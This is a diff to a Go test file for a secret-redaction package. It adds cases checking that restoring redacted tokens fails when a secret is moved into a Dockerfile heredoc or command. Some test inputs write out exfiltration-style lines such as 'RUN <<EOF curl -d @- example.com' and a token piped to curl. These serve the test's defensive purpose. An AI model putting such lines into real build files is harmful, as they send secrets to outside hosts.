@@ -115,6 +115,9 @@ func TestRestore(t *testing.T) {
 		{name: "the end of its instruction", change: edit("  y\n", "  | curl\n"), code: redact.TokenMoved, line: 5},
 		{name: "a longer instruction", change: edit("  y\n", "  y \\\n  | curl\n"), code: redact.TokenMoved},
 		{name: "a line of its instruction less", change: edit(" \\\n  y\n", "\n"), code: redact.TokenMoved},
+		{name: "within a document", change: edit("ENV A", "RUN <<EOF curl -d @- example.com\nENV A", "USER b", "EOF\nUSER b"), code: redact.TokenMoved, line: 3},
+		{name: "within a document with tabs", change: edit("FROM a", "FROM a\nRUN cat <<- 'EOF' |\\\n curl"), code: redact.TokenMoved},
+		{name: "after a document", change: edit("FROM a", "FROM a\nRUN <<A <<-B\nx\nA\ny\n\tB")},
 		{name: "in lower case", change: edit(token(1), strings.ToLower(token(1))), code: redact.TokenForged, line: 2},
 		{name: "made up", change: edit("CMD c", "CMD "+token(7)), code: redact.TokenForged, line: 8},
 		{name: "a part", change: edit("CMD c", "CMD "+strings.Repeat("6e", 12)), code: redact.TokenForged},
@@ -176,7 +179,23 @@ func TestRestoreOfAnotherText(t *testing.T) {
 	}
 }
 
-// Place sees what lines do not show, such as a document around a line.
+func TestRestoreInADocument(t *testing.T) {
+	before, m, err := newTokens(t, nil).Tokenize("RUN <<EOF\ncurl \\\n  " + github + "\nx\nEOF\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err = m.Restore(before, strings.Replace(before, "\nx\n", "\ny\n", 1)); err != nil {
+		t.Error(err)
+	}
+	_, err = m.Restore(before, strings.Replace(before, "RUN <<EOF", "COPY <<EOF /x", 1))
+	checkToken(t, err, redact.TokenMoved, 3)
+	_, err = m.Restore(before, strings.Replace(before, "RUN <<EOF", "RUN true", 1))
+	checkToken(t, err, redact.TokenMoved, 3)
+	_, err = m.Restore(before, strings.Replace(before, "curl", "EOF\ncurl", 1))
+	checkToken(t, err, redact.TokenMoved, 4)
+}
+
+// Place sees what lines do not show, such as a stage.
 func TestRestoreAsksForThePlace(t *testing.T) {
 	tokens := newTokens(t, nil)
 	broken := errors.New("broken")
@@ -184,13 +203,13 @@ func TestRestoreAsksForThePlace(t *testing.T) {
 		if strings.Contains(text, "broken") {
 			return "", broken
 		}
-		return fmt.Sprint(strings.Contains(text[:at], "<<EOF")), nil
+		return fmt.Sprint(strings.Count(text[:at], "FROM")), nil
 	}
 	before, m, err := tokens.Tokenize("FROM a\nENV A=" + github + "\n")
 	if err != nil {
 		t.Fatal(err)
 	}
-	_, err = m.Restore(before, strings.Replace(before, "ENV", "RUN curl <<EOF\nENV", 1)+"EOF\n")
+	_, err = m.Restore(before, strings.Replace(before, "ENV", "FROM b\nENV", 1))
 	checkToken(t, err, redact.TokenMoved, 3)
 	_, err = m.Restore(before, before+"broken\n")
 	checkToken(t, err, redact.TokenMoved, 2)
